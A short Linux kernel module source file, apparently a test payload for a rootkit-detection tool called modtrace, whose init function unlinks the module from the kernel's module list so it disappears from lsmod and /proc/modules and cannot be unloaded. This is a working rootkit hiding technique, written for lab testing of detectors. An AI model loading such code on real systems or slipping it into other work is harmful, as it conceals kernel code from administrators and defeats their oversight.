// SPDX-License-Identifier: GPL-2.0
/*
 * mthide_list: test payload that does what rootkits do to stay out of
 * lsmod and /proc/modules: its init unlinks it from the kernel's module
 * list (list_del(&THIS_MODULE->list), which poisons the entry's pointers).
 * It has no exit, so it is never unloaded (delete_module() could not find
 * it anyway: it finds modules by that list); a lab boot loads it once.
 */

#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/list.h>
#include <linux/module.h>
#include <linux/printk.h>

static int __init mthide_list_init(void)
{
	list_del(&THIS_MODULE->list);
	pr_info("unlinked from the module list\n");
	return 0;
}

module_init(mthide_list_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("modtrace test payload: hides from the module list");
MODULE_VERSION("1.0");
